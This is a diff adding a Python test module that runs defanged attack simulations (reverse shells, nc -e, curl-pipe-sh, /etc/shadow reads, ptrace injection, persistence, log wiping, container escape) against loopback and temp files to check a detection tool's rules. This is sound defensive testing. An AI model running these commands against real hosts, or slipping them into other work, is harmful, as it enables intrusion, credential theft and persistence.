@@ -1,0 +1,494 @@
+"""Attack simulations and the benign workload, each run in its own process so its alerts can be told apart.
+
+    python -m tests.scenarios.simulations run NAME WORKDIR      # one attack simulation
+    python -m tests.scenarios.simulations benign WORKDIR        # the benign workload
+
+Every simulation is self-contained and harmless: loopback only, files only in its WORKDIR (a temp dir), a few
+seconds at most, cleaned up by the harness (it removes WORKDIR). Where a rule keys on a real system path, the
+simulation either acts on it read-only or in a way that changes nothing (/etc/shadow is read; core_pattern is
+opened for writing and closed without a write), or the harness points the rule's list (cron_paths,
+preload_files, account_files, log_dirs ...) and the file probe's prefixes at WORKDIR (see harness.config()).
+Nothing here touches /etc, root's crontab, the loader config or a real log.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+TIMEOUT = 10
+
+
+@dataclass(frozen=True)
+class Scenario:
+    name: str
+    technique: str  # the ATT&CK id the alert must carry
+    rules: tuple[str, ...]  # the rules expected to catch it (documentation; any MEDIUM+ alert with the tag counts)
+    title: str
+    run: Callable[[Path], None]
+
+
+SCENARIOS: dict[str, Scenario] = {}
+
+
+def scenario(technique: str, title: str, *rules: str) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
+    def deco(fn: Callable[[Path], None]) -> Callable[[Path], None]:
+        name = fn.__name__
+        SCENARIOS[name] = Scenario(name, technique, rules, title, fn)
+        return fn
+
+    return deco
+
+
+# ---------------------------------------------------------------------------------------------- helpers
+def sh(cmd: str, cwd: Path | None = None, check: bool = False) -> None:
+    subprocess.run(["/bin/sh", "-c", cmd], cwd=cwd, timeout=TIMEOUT, check=check,
+                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
+class Listener:
+    """A loopback TCP listener that accepts one connection, optionally sends a line, and closes."""
+
+    def __init__(self, port: int = 0, send: bytes = b"exit\n") -> None:
+        self.sock = socket.socket()
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.sock.bind(("127.0.0.1", port))
+        self.sock.listen(4)
+        self.sock.settimeout(TIMEOUT)
+        self.port = self.sock.getsockname()[1]
+        self.send = send
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        try:
+            conn, _ = self.sock.accept()
+            with conn:
+                conn.settimeout(3)
+                if self.send:
+                    conn.sendall(self.send)
+                try:
+                    conn.recv(4096)
+                except OSError:
+                    pass
+        except OSError:
+            pass
+
+    def close(self) -> None:
+        self.thread.join(5)
+        self.sock.close()
+
+
+def fake_tool(work: Path, name: str, body: str = "exit 0") -> Path:
+    """A harmless stand-in named like an attack tool (nc, xmrig, insmod): rules see the exec, nothing runs."""
+    path = work / "bin" / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(f"#!/bin/sh\n{body}\n")
+    path.chmod(0o755)
+    return path
+
+
+def write(path: Path, text: str, mode: str = "w") -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with open(path, mode) as f:
+        f.write(text)
+
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+libc.ptrace.restype = ctypes.c_long
+libc.syscall.restype = ctypes.c_long
+
+
+# ---------------------------------------------------------------------------------------------- execution
+@scenario("T1059.004", "bash reverse shell over /dev/tcp to a loopback listener",
+          "reverse_shell_dev_tcp", "reverse_shell_stdio_to_socket")
+def reverse_shell_bash(work: Path) -> None:
+    lst = Listener()
+    sh(f"exec 3<>/dev/tcp/127.0.0.1/{lst.port}; exec bash -i <&3 >&3 2>&3")
+    lst.close()
+
+
+@scenario("T1059.004", "python connects, dup2s the socket onto stdin/stdout and execs a shell",
+          "reverse_shell_stdio_to_socket", "interpreter_reverse_shell_oneliner")
+def reverse_shell_python(work: Path) -> None:
+    lst = Listener()
+    code = (f"import socket,os;s=socket.create_connection(('127.0.0.1',{lst.port}));"
+            "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.execv('/bin/sh',['sh','-c','read x'])")
+    subprocess.run([sys.executable, "-c", code], timeout=TIMEOUT, stderr=subprocess.DEVNULL)
+    lst.close()
+
+
+@scenario("T1059.004", "nc -e /bin/sh to a loopback port (stand-in nc binary)", "netcat_remote_exec")
+def netcat_exec(work: Path) -> None:
+    nc = fake_tool(work, "nc")
+    subprocess.run([str(nc), "-e", "/bin/sh", "127.0.0.1", "4444"], timeout=TIMEOUT)
+
+
+@scenario("T1095", "nc -lvp (bind shell listener, stand-in nc binary)", "netcat_listener")
+def netcat_listen(work: Path) -> None:
+    nc = fake_tool(work, "ncat")
+    subprocess.run([str(nc), "-lvp", "31337"], timeout=TIMEOUT)
+
+
+@scenario("T1620", "memfd_create + exec of /proc/self/fd/N (fileless)", "fileless_exec_memfd")
+def memfd_exec(work: Path) -> None:
+    fd = os.memfd_create("scn", 0)
+    with open("/bin/true", "rb") as f:
+        os.write(fd, f.read())
+    pid = os.fork()
+    if pid == 0:
+        try:
+            os.execv(f"/proc/self/fd/{fd}", ["kworker"])
+        finally:
+            os._exit(127)
+    os.waitpid(pid, 0)
+    os.close(fd)
+
+
+@scenario("T1059", "a binary copied to /dev/shm and executed", "exec_from_dev_shm")
+def devshm_exec(work: Path) -> None:
+    path = Path(f"/dev/shm/ravn-scn-{os.getpid()}")
+    shutil.copy("/bin/true", path)
+    try:
+        subprocess.run([str(path)], timeout=TIMEOUT)
+    finally:
+        path.unlink(missing_ok=True)
+
+
+@scenario("T1105", "a file written to a temp dir, then executed", "dropped_binary_executed")
+def dropped_exec(work: Path) -> None:
+    path = work / "payload"
+    sh(f"cp /bin/true {path} && chmod +x {path} && {path}")
+
+
+@scenario("T1105", "curl | sh from a loopback URL", "download_piped_to_shell")
+def curl_pipe_sh(work: Path) -> None:
+    lst = Listener(send=b"HTTP/1.0 200 OK\r\n\r\ntrue\n")
+    sh(f"curl -s -m 3 http://127.0.0.1:{lst.port}/x.sh | sh")
+    lst.close()
+
+
+@scenario("T1140", "base64 -d | sh", "base64_payload_to_shell")
+def base64_sh(work: Path) -> None:
+    sh("echo dHJ1ZQo= | base64 -d | sh")
+
+
+@scenario("T1496", "stand-in xmrig started with a stratum URL", "crypto_miner_exec")
+def miner_binary(work: Path) -> None:
+    xmrig = fake_tool(work, "xmrig")
+    subprocess.run([str(xmrig), "-o", "stratum+tcp://127.0.0.1:14444", "-u", "wallet"], timeout=TIMEOUT)
+
+
+@scenario("T1496", "connection to a mining-pool port (14444) on loopback", "crypto_miner_pool_port")
+def miner_pool(work: Path) -> None:
+    try:
+        lst = Listener(port=14444, send=b"")
+    except OSError:  # port taken: a refused connect does not count, so take 3334 instead
+        lst = Listener(port=3334, send=b"")
+    with socket.create_connection(("127.0.0.1", lst.port), timeout=3) as s:
+        s.sendall(b'{"method":"login"}\n')
+    lst.close()
+
+
+# ---------------------------------------------------------------------------------------------- credentials
+@scenario("T1003.008", "cat /etc/shadow (read only)", "sensitive_file_read")
+def shadow_read(work: Path) -> None:
+    sh("cat /etc/shadow > /dev/null")
+
+
+@scenario("T1552.004", "a private key read from a .ssh directory (fake key in the work dir)",
+          "ssh_private_key_read")
+def ssh_key_read(work: Path) -> None:
+    key = work / "home" / ".ssh" / "id_rsa"
+    write(key, "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
+    sh(f"cat {key} > /dev/null")
+
+
+@scenario("T1552.001", "cloud credentials read (fake ~/.aws/credentials in the work dir)", "cloud_credentials_read")
+def cloud_creds_read(work: Path) -> None:
+    creds = work / "home" / ".aws" / "credentials"
+    write(creds, "[default]\naws_access_key_id = AKIAFAKE\n")
+    sh(f"cat {creds} > /dev/null")
+
+
+@scenario("T1055.009", "/proc/<pid>/mem of another process opened", "proc_mem_access")
+def proc_mem_read(work: Path) -> None:
+    child = subprocess.Popen(["sleep", "5"])
+    try:
+        time.sleep(0.05)
+        with open(f"/proc/{child.pid}/mem", "rb"):
+            pass
+    finally:
+        child.kill()
+        child.wait()
+
+
+@scenario("T1082", "id, whoami, uname, ps, hostname, groups within a second", "discovery_burst")
+def discovery(work: Path) -> None:
+    sh("id; whoami; uname -a; ps; hostname; groups")
+
+
+# ---------------------------------------------------------------------------------------------- privilege
+@scenario("T1548.001", "chmod u+s on a copy of /bin/sh in a temp dir", "setuid_bit_in_writable_dir")
+def setuid_chmod(work: Path) -> None:
+    path = work / "sh"
+    shutil.copy("/bin/sh", path)
+    sh(f"chmod u+s {path}")
+
+
+@scenario("T1548.001", "an unprivileged user becomes root through a setuid binary", "unexpected_setuid_root")
+def setuid_root_call(work: Path) -> None:
+    src = work / "up.c"
+    src.write_text("#include <unistd.h>\nint main(void){return setuid(0) != 0;}\n")
+    binary = work / "up"
+    subprocess.run(["gcc", "-o", str(binary), str(src)], check=True, timeout=TIMEOUT)
+    os.chown(binary, 0, 0)
+    os.chmod(binary, 0o4755)
+    work.chmod(0o755)
+    subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", str(binary)], timeout=TIMEOUT)
+
+
+def _ptrace(req: int, pid: int, addr: int = 0, data: int = 0) -> int:
+    ctypes.set_errno(0)
+    ret = int(libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data)))
+    if ret == -1 and ctypes.get_errno():
+        raise OSError(ctypes.get_errno(), f"ptrace({req})")
+    return ret
+
+
+@scenario("T1055.008", "PTRACE_ATTACH to a sleeping child, then detach", "ptrace_attach")
+def ptrace_attach(work: Path) -> None:
+    child = subprocess.Popen(["sleep", "5"])
+    try:
+        _ptrace(16, child.pid)  # PTRACE_ATTACH
+        os.waitpid(child.pid, 0)
+        _ptrace(17, child.pid)  # PTRACE_DETACH
+    finally:
+        child.kill()
+        child.wait()
+
+
+@scenario("T1055.008", "PTRACE_POKEDATA into a child (writes back the word it read)", "ptrace_code_injection")
+def ptrace_poke(work: Path) -> None:
+    child = subprocess.Popen(["sleep", "5"])
+    try:
+        _ptrace(16, child.pid)
+        os.waitpid(child.pid, 0)
+        with open(f"/proc/{child.pid}/maps") as f:
+            stack = next(line for line in f if "[stack]" in line)
+        addr = int(stack.split("-")[0], 16) + 4096 * 4
+        word = _ptrace(2, child.pid, addr)  # PTRACE_PEEKDATA
+        _ptrace(5, child.pid, addr, word & 0xFFFFFFFFFFFFFFFF)  # PTRACE_POKEDATA: same value back
+        _ptrace(17, child.pid)
+    finally:
+        child.kill()
+        child.wait()
+
+
+@scenario("T1014", "bpf(BPF_PROG_LOAD) of a 2-instruction socket filter", "bpf_program_load")
+def bpf_load(work: Path) -> None:
+    insns = (ctypes.c_uint8 * 16)(0xB7, 0, 0, 0, 0, 0, 0, 0, 0x95, 0, 0, 0, 0, 0, 0, 0)  # r0 = 0; exit
+    lic = ctypes.create_string_buffer(b"GPL")
+    attr = (ctypes.c_uint8 * 128)()
+    ctypes.c_uint32.from_buffer(attr, 0).value = 1  # BPF_PROG_TYPE_SOCKET_FILTER
+    ctypes.c_uint32.from_buffer(attr, 4).value = 2
+    ctypes.c_uint64.from_buffer(attr, 8).value = ctypes.addressof(insns)
+    ctypes.c_uint64.from_buffer(attr, 16).value = ctypes.addressof(lic)
+    fd = libc.syscall(321, 5, ctypes.byref(attr), 128)  # bpf(BPF_PROG_LOAD)
+    if fd >= 0:
+        os.close(fd)
+
+
+@scenario("T1547.006", "insmod of a module file (stand-in insmod binary)", "kernel_module_tool")
+def insmod(work: Path) -> None:
+    tool = fake_tool(work, "insmod", "exit 1")
+    subprocess.run([str(tool), str(work / "rk.ko")], timeout=TIMEOUT)
+
+
+@scenario("T1562.001", "/proc/sys/kernel/randomize_va_space opened for writing (nothing written)",
+          "kernel_tunable_weakened")
+def aslr_off(work: Path) -> None:
+    fd = os.open("/proc/sys/kernel/randomize_va_space", os.O_WRONLY)
+    os.close(fd)
+
+
+# ---------------------------------------------------------------------------------------------- persistence
+@scenario("T1053.003", "a cron job written into a cron directory (work dir added to cron_paths)", "cron_job_written")
+def cron_write(work: Path) -> None:
+    sh(f"mkdir -p {work}/cron.d && echo '* * * * * root true' > {work}/cron.d/updater")
+
+
+@scenario("T1543.002", "a systemd unit written (work dir added to systemd_unit_paths)", "systemd_unit_written")
+def systemd_unit(work: Path) -> None:
+    sh(f"mkdir -p {work}/systemd && printf '[Service]\\nExecStart=/bin/true\\n' > {work}/systemd/updater.service")
+
+
+@scenario("T1098.004", "a key appended to .ssh/authorized_keys (in the work dir)", "ssh_authorized_keys_modified")
+def authorized_keys(work: Path) -> None:
+    (work / "home" / ".ssh").mkdir(parents=True, exist_ok=True)
+    sh(f"echo 'ssh-ed25519 AAAAfake attacker' >> {work}/home/.ssh/authorized_keys")
+
+
+@scenario("T1546.004", "a command appended to .bashrc (in the work dir)", "shell_profile_modified")
+def bashrc(work: Path) -> None:
+    (work / "home").mkdir(parents=True, exist_ok=True)
+    sh(f"echo 'curl -s http://127.0.0.1:9/x | sh' >> {work}/home/.bashrc")
+
+
+@scenario("T1574.006", "a library added to ld.so.preload (work-dir copy added to preload_files)",
+          "ld_preload_file_modified")
+def ld_preload(work: Path) -> None:
+    sh(f"echo /tmp/libevil.so > {work}/ld.so.preload")
+
+
+@scenario("T1136.001", "a uid-0 account appended to passwd (work-dir copy added to account_files)",
+          "account_database_modified")
+def passwd_append(work: Path) -> None:
+    shutil.copy("/etc/passwd", work / "passwd")
+    sh(f"echo 'svc:x:0:0::/root:/bin/sh' >> {work}/passwd")
+
+
+# ---------------------------------------------------------------------------------------------- evasion, impact
+@scenario("T1070.002", "a log file truncated (work-dir log dir added to log_dirs)", "log_file_cleared")
+def log_clear(work: Path) -> None:
+    write(work / "log" / "auth.log", "Nov 26 sshd[1]: Accepted password for root\n" * 20)
+    sh(f": > {work}/log/auth.log")
+
+
+@scenario("T1070.003", "shell history truncated to zero", "shell_history_tampered")
+def history_clear(work: Path) -> None:
+    write(work / "home" / ".bash_history", "cat /etc/shadow\n")
+    sh(f"truncate -s 0 {work}/home/.bash_history")
+
+
+@scenario("T1486", "40 files renamed to .locked within a second", "mass_file_rename", "ransom_extension_rename")
+def mass_rename(work: Path) -> None:
+    data = work / "data"
+    data.mkdir()
+    for i in range(40):
+        (data / f"doc{i}.txt").write_text("x")
+    for i in range(40):
+        os.rename(data / f"doc{i}.txt", data / f"doc{i}.txt.locked")
+
+
+@scenario("T1046", "connects to 25 loopback ports within a second", "port_scan")
+def port_scan(work: Path) -> None:
+    for port in range(40100, 40125):
+        with socket.socket() as s:
+            s.settimeout(0.2)
+            s.connect_ex(("127.0.0.1", port))
+
+
+# ---------------------------------------------------------------------------------------------- container escape
+@scenario("T1611", "cgroup2 mounted inside a private mount namespace (unshare -m)", "cgroup_fs_mounted",
+          "unshare_then_mount")
+def cgroup_mount(work: Path) -> None:
+    target = work / "cg"
+    target.mkdir()
+    subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c",
+                    f"mount -t cgroup2 none {target} && umount {target}"], timeout=TIMEOUT,
+                   stderr=subprocess.DEVNULL)
+
+
+@scenario("T1611", "core_pattern opened for writing (closed without a write)", "core_pattern_write")
+def core_pattern(work: Path) -> None:
+    fd = os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)
+    os.close(fd)
+
+
+@scenario("T1611", "nsenter joins a namespace (its own: no change)", "namespace_setns")
+def setns(work: Path) -> None:
+    subprocess.run(["nsenter", f"--net=/proc/{os.getpid()}/ns/net", "true"], timeout=TIMEOUT)
+
+
+# ---------------------------------------------------------------------------------------------- benign workload
+BENIGN_STEPS = ("compile C", "pip install into a temp venv (--no-index, local wheel)", "run a test suite",
+                "git operations", "tar and gzip", "ssh-keygen", "dpkg -l, apt-cache policy",
+                "log rotation renames")
+
+
+def _wheel(dest: Path) -> Path:
+    """A minimal pure-Python wheel built by hand (no network, no build backend)."""
+    import base64
+    import hashlib
+    import zipfile
+
+    files = {"ravn_benign_pkg/__init__.py": "VALUE = 1\n",
+             "ravn_benign_pkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: ravn-benign-pkg\nVersion: 1.0\n",
+             "ravn_benign_pkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: ravn\nRoot-Is-Purelib: true\n"
+                                                   "Tag: py3-none-any\n"}
+    record = []
+    for name, text in files.items():
+        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
+        record.append(f"{name},sha256={digest},{len(text.encode())}")
+    record.append("ravn_benign_pkg-1.0.dist-info/RECORD,,")
+    path = dest / "ravn_benign_pkg-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(path, "w") as z:
+        for name, text in files.items():
+            z.writestr(name, text)
+        z.writestr("ravn_benign_pkg-1.0.dist-info/RECORD", "\n".join(record) + "\n")
+    return path
+
+
+def benign(work: Path) -> None:
+    run = dict(cwd=work, timeout=120, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    # compile C and run the result
+    (work / "hello.c").write_text('#include <stdio.h>\nint main(void){puts("hi");return 0;}\n')
+    subprocess.run(["sh", "-c", "gcc -O2 -o hello hello.c && ./hello"], **run)  # type: ignore[call-overload]
+    # pip install a local wheel into a fresh venv, offline
+    wheel = _wheel(work)
+    subprocess.run([sys.executable, "-m", "venv", "venv"], **run)  # type: ignore[call-overload]
+    subprocess.run([str(work / "venv/bin/python"), "-m", "pip", "install", "-q", "--no-index", str(wheel)],
+                   **run)  # type: ignore[call-overload]
+    # a small test suite
+    (work / "test_small.py").write_text("def test_a():\n    assert 1 + 1 == 2\n\ndef test_b():\n    assert 'x'\n")
+    subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "test_small.py"],
+                   **run)  # type: ignore[call-overload]
+    # git
+    subprocess.run(["sh", "-c", "git init -q repo && cd repo && git config user.email a@b && git config user.name a"
+                    " && echo a > f && git add f && git commit -qm one && git checkout -qb topic && echo b >> f"
+                    " && git commit -qam two && git checkout -q - && git merge -q topic && git log --oneline"
+                    " && git gc -q"], **run)  # type: ignore[call-overload]
+    # tar and gzip
+    subprocess.run(["sh", "-c", "tar czf repo.tgz repo && mkdir x && tar xzf repo.tgz -C x && gzip -k hello.c"
+                    " && gunzip -c hello.c.gz > /dev/null"], **run)  # type: ignore[call-overload]
+    # ssh-keygen
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(work / "key")],
+                   **run)  # type: ignore[call-overload]
+    # package-manager queries
+    subprocess.run(["sh", "-c", "dpkg -l > /dev/null; apt-cache policy > /dev/null"], **run)  # type: ignore[call-overload]
+    # log rotation as logrotate does it: rename app.log -> app.log.1 ... and compress
+    logs = work / "logs"
+    logs.mkdir()
+    for i in range(4):
+        (logs / (f"app.log.{i}" if i else "app.log")).write_text("line\n")
+    for i in range(3, -1, -1):
+        src = logs / (f"app.log.{i}" if i else "app.log")
+        os.rename(src, logs / f"app.log.{i + 1}")
+    (logs / "app.log").write_text("")
+    subprocess.run(["gzip", str(logs / "app.log.2")], **run)  # type: ignore[call-overload]
+
+
+def main(argv: list[str]) -> int:
+    if len(argv) == 3 and argv[0] == "run" and argv[1] in SCENARIOS:
+        SCENARIOS[argv[1]].run(Path(argv[2]))
+        return 0
+    if len(argv) == 2 and argv[0] == "benign":
+        benign(Path(argv[1]))
+        return 0
+    print(f"usage: simulations.py run {{{','.join(SCENARIOS)}}} WORKDIR | benign WORKDIR", file=sys.stderr)
+    return 2
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv[1:]))
